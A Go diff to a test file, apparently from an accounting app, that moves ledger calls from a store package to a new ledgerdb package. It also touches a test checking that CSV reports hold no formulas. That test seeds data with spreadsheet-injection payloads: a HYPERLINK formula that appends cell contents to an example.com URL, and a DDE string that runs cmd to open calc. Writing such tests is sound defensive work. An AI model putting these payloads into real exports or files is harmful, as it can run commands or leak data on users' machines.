@@ -1,6 +1,8 @@
 package handlers
 
 import (
+	"github.com/daybook-dev/daybook/internal/store/ledgerdb"
+
 	"context"
 	"crypto/sha256"
 	"encoding/csv"
@@ -31,7 +33,7 @@ func (b *bundle) books() {
 	b.t.Helper()
 	fixture.Organization(b.t, b.Pool, org)
 	fixture.Tx(b.t, b.Pool, func(ctx context.Context, tx pgx.Tx) {
-		var p store.Posting
+		var p ledgerdb.Posting
 		for n, day := range []models.Date{models.NewDate(2026, 3, 2), models.NewDate(2026, 3, 30), models.NewDate(2026, 4, 1)} {
 			id := int64(n + 1)
 			p.Impacts = append(p.Impacts, models.Impact{
@@ -43,7 +45,7 @@ func (b *bundle) books() {
 			}
 			p.Entries = append(p.Entries, entry(1, "1200", models.Debit), entry(2, "4400", models.Credit))
 		}
-		require.NoError(b.t, store.InsertPosting(ctx, tx, p))
+		require.NoError(b.t, ledgerdb.InsertPosting(ctx, tx, p))
 	})
 }
 
@@ -130,19 +132,19 @@ func TestReportsHoldNoFormulas(t *testing.T) {
 	const link, sum, command = `=HYPERLINK("https://example.com/"&A1)`, "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"
 	fixture.Tx(t, b.Pool, func(ctx context.Context, tx pgx.Tx) {
 		require.NoError(t, store.PutOrganization(ctx, tx, org, org))
-		_, err := store.PutAccounts(ctx, tx, org, []models.Account{
+		_, err := ledgerdb.PutAccounts(ctx, tx, org, []models.Account{
 			{Code: "+1200", Name: sum, Type: models.AccountAsset}, {Code: "4400", Name: "Sales - all", Type: models.AccountIncome},
 		})
 		require.NoError(t, err)
 		d := fixture.Invoice(org, link, 1000)
 		d.Content.Counterparty = command
-		_, err = store.PutDocument(ctx, tx, d)
+		_, err = ledgerdb.PutDocument(ctx, tx, d)
 		require.NoError(t, err)
 		day := models.NewDate(2026, 3, 2)
 		entry := func(line int, account string, side models.Side) models.Entry {
 			return models.Entry{ImpactID: 1, LineNo: line, OrgID: org, Account: account, Side: side, Amount: 1000, Currency: "EUR", RuleLineID: "=l"}
 		}
-		require.NoError(t, store.InsertPosting(ctx, tx, store.Posting{
+		require.NoError(t, ledgerdb.InsertPosting(ctx, tx, ledgerdb.Posting{
 			Impacts: []models.Impact{{
 				ID: 1, OrgID: org, DocumentID: link, DocumentVersion: 1, Seq: 1, Kind: models.ImpactPost, RuleSetVersion: new(int64(1)), RuleID: "\tsale",
 				DocumentDate: day, PostingDate: day, EntryCount: 2, JobID: "job", Attempt: 1,
